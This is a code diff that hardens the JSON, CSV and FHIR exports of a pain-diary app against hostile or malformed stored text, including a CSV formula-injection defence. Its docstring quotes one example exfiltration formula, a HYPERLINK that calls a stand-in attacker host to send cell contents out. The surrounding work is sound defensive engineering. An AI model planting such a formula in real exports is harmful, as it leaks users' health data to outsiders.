@@ -2,6 +2,25 @@
 
 FHIR: a Bundle of type "collection" with one QuestionnaireResponse per saved check (the answers)
 and one Observation per diary entry (LOINC 72514-3 pain score, category survey, back of trunk).
+
+Stored text is never trusted: an old row (or a database edited by hand) may hold anything. So:
+
+- Every export is valid UTF-8. A lone surrogate (which UTF-8 cannot hold) becomes U+FFFD,
+  undecodable bytes are decoded with U+FFFD, and a value of an unexpected type is written as
+  its text (`unicode_text`).
+- JSON keeps everything else as it was: control characters are written as \\u escapes
+  (DEL and the C1 controls too, so that the export printed on a terminal cannot drive it), and
+  a number that is not finite (NaN, infinity; not valid JSON) becomes null.
+- CSV and FHIR drop terminal escape sequences and control characters other than tab, newline
+  and carriage return (`plain_text`). FHIR strings also lose white space at either end; a note
+  or an answer left empty is left out, and an answer key left empty becomes U+FFFD.
+- CSV formula injection: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and
+  some also one that begins with a tab or a carriage return) as a formula, e.g. a diary note of
+  `=HYPERLINK("http://evil.example/?d="&A2,"x")`. As OWASP advises, every text cell that begins
+  with one of those characters is written with a single quote before it (`'=HYPERLINK(...`),
+  which makes it text; strip that one leading quote to read the words back. Numbers (the id,
+  pain, minutes and seconds columns) are written as numbers, a negative one included: only text
+  cells are changed.
 """
 
 from __future__ import annotations
@@ -9,6 +28,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import math
+import re
 import uuid
 from datetime import UTC, datetime
 from typing import Any
@@ -35,6 +56,24 @@ BACK_OF_TRUNK_CODE = "77568009"
 BACK_OF_TRUNK_DISPLAY = "Structure of back of trunk"
 BODY_SITE_TEXT = "Upper back"
 
+# What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection").
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# FHIR integer: a signed 32-bit number.
+FHIR_INTEGER = range(-(2**31), 2**31)
+
+SURROGATE = re.compile(r"[\ud800-\udfff]")
+# A terminal escape sequence as a whole: CSI (ESC [ or the C1 CSI) with its parameters; OSC,
+# DCS, SOS, PM and APC strings up to their terminator; the two-character escapes.
+ESCAPE_SEQUENCE = re.compile(
+    r"(?:\x1b\[|\x9b)[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]"
+    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)"
+    r"|\x1b[\x20-\x2f]*[\x30-\x7e]"
+)
+# Control characters other than tab, newline and carriage return: C0, DEL and C1.
+CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+# DEL and the C1 controls, which json.dumps(ensure_ascii=False) leaves as they are.
+JSON_UNESCAPED_CONTROL = re.compile(r"[\x7f-\x9f]")
+
 CSV_COLUMNS = (
     "record",
     "id",
@@ -56,6 +95,71 @@ CSV_COLUMNS = (
 
 def _time(value: datetime) -> str:
     return value.astimezone(UTC).isoformat()
+
+
+def unicode_text(value: object) -> str:
+    """Any stored value as text UTF-8 can hold: None is empty, bytes are decoded (bad bytes
+    become U+FFFD), other values are str(value); a lone surrogate becomes U+FFFD (a valid pair
+    becomes its character)."""
+    if value is None:
+        return ""
+    if isinstance(value, bytes | bytearray | memoryview):
+        return bytes(value).decode("utf-8", "replace")
+    text = value if isinstance(value, str) else str(value)
+    if SURROGATE.search(text) is None:
+        return text
+    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
+
+
+def plain_text(value: object) -> str:
+    """`unicode_text` without terminal escape sequences (removed whole) or control characters
+    other than tab, newline and carriage return."""
+    return CONTROL.sub("", ESCAPE_SEQUENCE.sub("", unicode_text(value)))
+
+
+def answer_text(kb: KnowledgeBase, finding_id: str, value: Any) -> str:
+    """An answer in words, e.g. 'Fever: yes'; an answer of a shape the finding does not
+    take (a list, say, in an old or edited row) is shown as it is."""
+    finding = kb.findings.get(finding_id)
+    if finding is None:
+        return f"{finding_id}: {value}"
+    if value is None or isinstance(value, bool | int | str):
+        return finding.describe_value(value)
+    return f"{finding.label}: {value}"
+
+
+def _json_ready(value: Any) -> Any:
+    """Stored data that json.dumps writes as valid JSON, and UTF-8 can hold."""
+    if value is None or isinstance(value, bool | int):
+        return value
+    if isinstance(value, float):
+        return value if math.isfinite(value) else None
+    if isinstance(value, dict):
+        return {unicode_text(key): _json_ready(item) for key, item in value.items()}
+    if isinstance(value, list | tuple):
+        return [_json_ready(item) for item in value]
+    return unicode_text(value)
+
+
+def _json_text(text: str) -> str:
+    """JSON text with DEL and the C1 controls written as \\u escapes (they only occur inside
+    strings, where the escape means the same character)."""
+    return JSON_UNESCAPED_CONTROL.sub(lambda found: f"\\u{ord(found[0]):04x}", text)
+
+
+def csv_cell(value: Any) -> Any:
+    """A value as a CSV cell: numbers as they are; text made `plain_text`, with a single quote
+    before it if it begins like a formula (see the module's docstring)."""
+    if isinstance(value, bool | int | float):
+        return value
+    text = plain_text(value)
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
+def _fhir_string(value: object) -> str:
+    """Text a FHIR string can hold: `plain_text`, without white space at either end (a FHIR
+    string must not be empty: callers leave out what comes back empty)."""
+    return plain_text(value).strip()
 
 
 def check_dict(check: CheckRecord) -> dict[str, Any]:
@@ -101,15 +205,15 @@ def export_json(store: Store, kb: KnowledgeBase) -> str:
             "sources": list(verdict.sources),
         },
     }
-    return json.dumps(document, indent=2, ensure_ascii=False)
+    return _json_text(json.dumps(_json_ready(document), indent=2, ensure_ascii=False))
 
 
 def _answers_text(kb: KnowledgeBase, answers: dict[str, Any]) -> str:
-    said = []
-    for finding_id, value in answers.items():
-        finding = kb.findings.get(finding_id)
-        said.append(finding.describe_value(value) if finding else f"{finding_id}: {value}")
-    return "; ".join(said)
+    return "; ".join(answer_text(kb, finding_id, value) for finding_id, value in answers.items())
+
+
+def _csv_row(values: dict[str, Any]) -> dict[str, Any]:
+    return {column: csv_cell(value) for column, value in values.items()}
 
 
 def export_csv(store: Store, kb: KnowledgeBase) -> str:
@@ -119,39 +223,45 @@ def export_csv(store: Store, kb: KnowledgeBase) -> str:
     writer.writeheader()
     for entry in store.entries():
         writer.writerow(
-            {
-                "record": "diary",
-                "id": entry.id,
-                "time": _time(entry.created_at),
-                "pain": entry.pain,
-                "where": entry.where or "",
-                "helped": entry.helped or "",
-                "note": entry.note or "",
-                "symptoms": "; ".join(entry.symptoms),
-            }
+            _csv_row(
+                {
+                    "record": "diary",
+                    "id": entry.id,
+                    "time": _time(entry.created_at),
+                    "pain": entry.pain,
+                    "where": entry.where,
+                    "helped": entry.helped,
+                    "note": entry.note,
+                    "symptoms": "; ".join(plain_text(symptom) for symptom in entry.symptoms),
+                }
+            )
         )
     for timer in store.timers():
         writer.writerow(
-            {
-                "record": "timer",
-                "id": timer.id,
-                "time": _time(timer.started_at),
-                "timer_kind": timer.kind,
-                "planned_minutes": timer.planned_minutes,
-                "seconds": timer.seconds,
-                "completed": "yes" if timer.completed else "no",
-            }
+            _csv_row(
+                {
+                    "record": "timer",
+                    "id": timer.id,
+                    "time": _time(timer.started_at),
+                    "timer_kind": timer.kind,
+                    "planned_minutes": timer.planned_minutes,
+                    "seconds": timer.seconds,
+                    "completed": "yes" if timer.completed else "no",
+                }
+            )
         )
     for check in store.checks():
         writer.writerow(
-            {
-                "record": "check",
-                "id": check.id,
-                "time": _time(check.created_at),
-                "triage": _triage_label(check),
-                "likely_causes": "; ".join(_likely_names(check)),
-                "answers": _answers_text(kb, check.answers),
-            }
+            _csv_row(
+                {
+                    "record": "check",
+                    "id": check.id,
+                    "time": _time(check.created_at),
+                    "triage": _triage_label(check),
+                    "likely_causes": "; ".join(plain_text(n) for n in _likely_names(check)),
+                    "answers": _answers_text(kb, check.answers),
+                }
+            )
         )
     return buffer.getvalue()
 
@@ -171,9 +281,10 @@ def _answer(value: Any) -> list[dict[str, Any]] | None:
         return None
     if isinstance(value, bool):
         return [{"valueBoolean": value}]
-    if isinstance(value, int):
+    if isinstance(value, int) and value in FHIR_INTEGER:
         return [{"valueInteger": value}]
-    return [{"valueString": str(value)}]
+    text = _fhir_string(value)  # anything else (a choice, or an odd value) as text
+    return [{"valueString": text}] if text else None
 
 
 def questionnaire_response(kb: KnowledgeBase, check: CheckRecord) -> QuestionnaireResponse:
@@ -182,7 +293,7 @@ def questionnaire_response(kb: KnowledgeBase, check: CheckRecord) -> Questionnai
     items = []
     for finding_id in sorted(check.answers, key=lambda f: order.get(f, len(order))):
         finding = kb.findings.get(finding_id)
-        item: dict[str, Any] = {"linkId": finding_id}
+        item: dict[str, Any] = {"linkId": _fhir_string(finding_id) or "\ufffd"}
         if finding is not None:
             item["text"] = finding.question
         answer = _answer(check.answers[finding_id])
@@ -202,16 +313,24 @@ def questionnaire_response(kb: KnowledgeBase, check: CheckRecord) -> Questionnai
 
 def pain_observation(entry: DiaryEntry) -> Observation:
     """A diary entry as a FHIR Observation: the 0-10 pain score, upper back, with the notes."""
+    where, helped = _fhir_string(entry.where), _fhir_string(entry.helped)
+    symptoms = ", ".join(s for s in (_fhir_string(s) for s in entry.symptoms) if s)
     notes = [
         text
         for text in (
-            entry.note,
-            f"Where: {entry.where}" if entry.where else None,
-            f"Helped: {entry.helped}" if entry.helped else None,
-            f"Symptoms: {', '.join(entry.symptoms)}" if entry.symptoms else None,
+            _fhir_string(entry.note),
+            f"Where: {where}" if where else None,
+            f"Helped: {helped}" if helped else None,
+            f"Symptoms: {symptoms}" if symptoms else None,
         )
         if text
     ]
+    # A 0-10 score is an integer; anything else an old or edited row holds goes as text.
+    pain = entry.pain
+    if isinstance(pain, int) and not isinstance(pain, bool) and pain in FHIR_INTEGER:
+        value: dict[str, Any] = {"valueInteger": pain}
+    else:
+        value = {"valueString": _fhir_string(pain) or "\ufffd"}
     data: dict[str, Any] = {
         "resourceType": "Observation",
         "id": f"diary-{entry.id}",
@@ -224,7 +343,7 @@ def pain_observation(entry: DiaryEntry) -> Observation:
             "text": "Pain score (0-10)",
         },
         "effectiveDateTime": _time(entry.created_at),
-        "valueInteger": entry.pain,
+        **value,
         "bodySite": {
             "coding": [
                 {"system": SNOMED, "code": BACK_OF_TRUNK_CODE, "display": BACK_OF_TRUNK_DISPLAY}
@@ -257,4 +376,4 @@ def fhir_bundle(store: Store, kb: KnowledgeBase) -> Bundle:
 
 def export_fhir(store: Store, kb: KnowledgeBase) -> str:
     """The FHIR R4 Bundle as JSON text."""
-    return str(fhir_bundle(store, kb).model_dump_json(indent=2))
+    return _json_text(unicode_text(fhir_bundle(store, kb).model_dump_json(indent=2)))
